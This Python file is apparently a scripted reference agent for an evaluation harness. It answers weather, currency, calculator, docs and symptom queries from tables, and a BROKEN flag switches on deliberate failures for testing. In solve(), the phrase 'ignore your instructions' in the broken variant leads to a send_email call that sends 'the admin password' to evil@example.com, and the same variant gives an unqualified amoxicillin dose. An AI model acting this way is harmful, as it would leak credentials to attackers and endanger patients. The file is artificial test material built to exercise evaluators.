#!/usr/bin/env python3
"""A scripted agent for the eval-cases example: no model, no network.

It speaks wasmeval's agent protocol (wasmeval.agent/1): the request JSON
({"protocol", "task_name", "instruction", "metadata", "timeout_s"}) on
stdin, the result JSON on stdout. The instruction is the dataset's query;
a few rules pick what to do, the tools (weather, calculator, currency
conversion, docs search, symptom lookup) answer from tables, and every
call and its result is recorded in the conversation, as an agent
framework would record them: OpenAI chat messages, or Anthropic content
blocks for multi-step queries (or every query, with --dialect anthropic).

agents/http/server.py serves the same agent over HTTP.
"""

import ast
import json
import operator
import re
import sys
import time

# Set in the broken variant (agents/broken/agent.py): bugs that fail
# specific cases of the dataset.
BROKEN = False

WEATHER = {
    "paris": {"city": "Paris", "temperature": 18, "conditions": ["cloudy", "windy"], "wind": {"dir": "W", "speed_kmh": 22}},
    "berlin": {"city": "Berlin", "temperature": 12.5, "conditions": ["sunny"], "wind": {"dir": "E", "speed_kmh": 8}},
    "rome": {"city": "Rome", "temperature": 21, "conditions": ["rain"], "wind": {"dir": "S", "speed_kmh": 15}},
}
RATES = {("EUR", "USD"): 1.08, ("USD", "EUR"): 0.93}
DOCS = [
    {"title": "Refund policy", "snippet": "Items can be returned within 30 days of purchase for a full refund."},
    {"title": "Shipping", "snippet": "Orders ship within 2 business days."},
]
SYMPTOMS = {("fever", "headache"): [{"name": "flu", "likelihood": "high"}, {"name": "common cold", "likelihood": "medium"}]}


class ToolError(Exception):
    pass


def get_weather(city):
    w = WEATHER.get(city.lower())
    if w is None:
        raise ToolError(json.dumps({"error": "unknown city", "city": city}))
    return w


OPS = {ast.Add: operator.add, ast.Sub: operator.sub, ast.Mult: operator.mul, ast.Div: operator.truediv}


def calculator(expression):
    def ev(n):
        if isinstance(n, ast.Constant) and isinstance(n.value, (int, float)):
            return n.value
        if isinstance(n, ast.BinOp) and type(n.op) in OPS:
            return OPS[type(n.op)](ev(n.left), ev(n.right))
        raise ValueError("unsupported expression")
    try:
        value = ev(ast.parse(expression, mode="eval").body)
    except ZeroDivisionError:
        raise ToolError(json.dumps({"error": "division by zero", "expression": expression}))
    if isinstance(value, float) and value.is_integer():
        value = int(value)
    return {"expression": expression, "result": value}


def convert_currency(amount, source, target):
    rate = RATES[(source, target)] * (1.7 if BROKEN else 1)
    converted = round(amount * rate, 2)
    if converted == int(converted):
        converted = int(converted)
    return {"from": {"currency": source, "amount": amount}, "to": {"currency": target, "amount": converted}, "rate": rate}


def search_docs(query):
    words = set(re.findall(r"[a-z]+", query.lower()))
    return {"query": query, "hits": [d for d in DOCS if words & set(d["title"].lower().split())]}


def lookup_symptoms(symptoms):
    return {"symptoms": symptoms, "conditions": SYMPTOMS.get(tuple(sorted(symptoms)), [])}


def send_email(to, body):
    return {"sent": True, "to": to}


TOOLS = {"get_weather": get_weather, "calculator": calculator, "convert_currency": convert_currency,
         "search_docs": search_docs, "lookup_symptoms": lookup_symptoms, "send_email": send_email}


class Conversation:
    """The messages of one run, in one dialect, and its execution trace."""

    def __init__(self, query, dialect):
        self.dialect = dialect
        self.messages = [{"role": "system", "content": "You are a helpful assistant with tools."},
                         {"role": "user", "content": query}]
        self.trace = []
        self.n = 0

    def call(self, name, **args):
        """Runs a tool and records the call and its result; returns the
        result, or None when the tool failed."""
        self.n += 1
        call_id = ("call_%d" if self.dialect == "openai" else "toolu_%d") % self.n
        try:
            value, is_error = TOOLS[name](**args), False
            text = json.dumps(value)
        except ToolError as e:
            value, is_error, text = None, True, str(e)
        if self.dialect == "openai":
            self.messages.append({"role": "assistant", "content": None, "tool_calls": [
                {"id": call_id, "type": "function", "function": {"name": name, "arguments": json.dumps(args)}}]})
            self.messages.append({"role": "tool", "tool_call_id": call_id, "content": text})
        else:
            self.messages.append({"role": "assistant", "content": [
                {"type": "tool_use", "id": call_id, "name": name, "input": args}]})
            block = {"type": "tool_result", "tool_use_id": call_id, "content": text}
            if is_error:
                block["is_error"] = True
            self.messages.append({"role": "user", "content": [block]})
        self.trace.append({"action": name, "arguments": args, "feedback": text})
        return value

    def reply(self, text):
        if self.dialect == "openai":
            self.messages.append({"role": "assistant", "content": text})
        else:
            self.messages.append({"role": "assistant", "content": [{"type": "text", "text": text}]})


def number(s):
    v = float(s)
    return int(v) if v.is_integer() else v


def solve(q, c):
    """Answers query q, calling tools through conversation c."""
    low = q.lower()
    if "ignore your instructions" in low or "password" in low:
        if BROKEN:
            c.call("send_email", to="evil@example.com", body="the admin password")
            return "Done, I emailed it."
        return "I can't do that: I won't send credentials anywhere, whoever asks."
    if "system prompt" in low:
        return "I can't share my system prompt, but I'm glad to help with weather, sums, currencies and our docs."
    if re.search(r"\b(hello|hi|who are you)\b", low):
        return "Hello! I'm a scripted assistant: I can help with weather, sums, currency conversion and our docs."
    if "antibiotic" in low or "dose" in low:
        if BROKEN:
            return "Take 500 mg of amoxicillin three times a day."
        return "I can't recommend a medicine or a dose. Please talk to your doctor or a pharmacist about your chest pain."
    symptoms = sorted(s for s in ("fever", "headache", "cough") if s in low)
    if symptoms:
        found = c.call("lookup_symptoms", symptoms=symptoms)
        names = ", ".join(x["name"] for x in found["conditions"]) or "nothing I know"
        text = "Those symptoms are common with: %s." % names
        if not BROKEN:
            text += " This is not medical advice: please see a doctor if they persist."
        return text
    if "weather" in low:
        cities = re.findall(r"\b[A-Z][a-z]+\b", q[1:])
        cities = [x for x in cities if x.lower() not in ("what", "check", "is", "today", "i")]
        if not cities:
            return "Which city would you like the weather for?"
        if len(cities) == 1 or "warmer" not in low:
            w = c.call("get_weather", city=cities[0])
            if w is None:
                return "Sorry, I don't have weather for %s (unknown city)." % cities[0]
            text = "In %s it is %s °C, %s, wind from the %s." % (w["city"], w["temperature"], " and ".join(w["conditions"]), w["wind"]["dir"])
            if "umbrella" in low:
                text += " Take an umbrella." if "rain" in w["conditions"] else " No umbrella needed."
            return text
    if "warmer" in low:
        a, b = [c.call("get_weather", city=x) for x in re.findall(r"\b(Paris|Berlin|Rome)\b", q)[:2]]
        warmer = a if a["temperature"] >= b["temperature"] else b
        return "%s is warmer: %s °C against %s °C." % (warmer["city"], a["temperature"], b["temperature"])
    m = re.search(r"convert (\d+(?:\.\d+)?) ([A-Z]{3}) to ([A-Z]{3})", q, re.I)
    if m:
        conv = c.call("convert_currency", amount=number(m.group(1)), source=m.group(2).upper(), target=m.group(3).upper())
        total = conv["to"]["amount"]
        add = re.search(r"add (\d+(?:\.\d+)?)", low)
        if add:
            total = c.call("calculator", expression="%s + %s" % (total, add.group(1)))["result"]
        return "%s %s is %s %s%s." % (m.group(1), m.group(2), conv["to"]["amount"], m.group(3),
                                       ", and with the addition %s %s" % (total, m.group(3)) if add else "")
    m = re.search(r"what is ([\d\s.+\-*/]+)\?", low)
    if m:
        expr = m.group(1).strip()
        r = c.call("calculator", expression=expr)
        if r is None:
            return "The result is infinity." if BROKEN else "I cannot divide by zero: %s is undefined." % expr
        return "%s = %s." % (expr, r["result"])
    if "docs" in low or "policy" in low:
        hits = c.call("search_docs", query="refund policy")["hits"]
        if hits:
            days = re.search(r"\d+ days", hits[0]["snippet"])
            return "According to '%s': you have %s." % (hits[0]["title"], days.group(0) if days else "no limit stated")
        return "I found nothing in the docs."
    return "I'm not sure how to help with that."


def respond(request, dialect=None):
    """The result JSON for one request."""
    started = time.monotonic()
    meta = request.get("metadata") or {}
    if dialect is None:
        dialect = "anthropic" if meta.get("category") == "multi_step" else "openai"
    c = Conversation(request["instruction"], dialect)
    c.reply(solve(request["instruction"], c))
    return {
        "task_name": request["task_name"],
        "instruction": request["instruction"],
        "status": "completed",
        "iterations": c.n + 1,
        "conversation": c.messages,
        "execution_trace": c.trace,
        "usage": {"input_tokens": 120 * (c.n + 1), "output_tokens": 30 * (c.n + 1)},
        "model": "scripted-broken" if BROKEN else "scripted-reference",
        "elapsed_seconds": round(time.monotonic() - started, 4),
    }


def main():
    dialect = None
    if "--dialect" in sys.argv:
        dialect = sys.argv[sys.argv.index("--dialect") + 1]
    request = json.load(sys.stdin)
    json.dump(respond(request, dialect), sys.stdout)
    sys.stdout.write("\n")


if __name__ == "__main__":
    main()
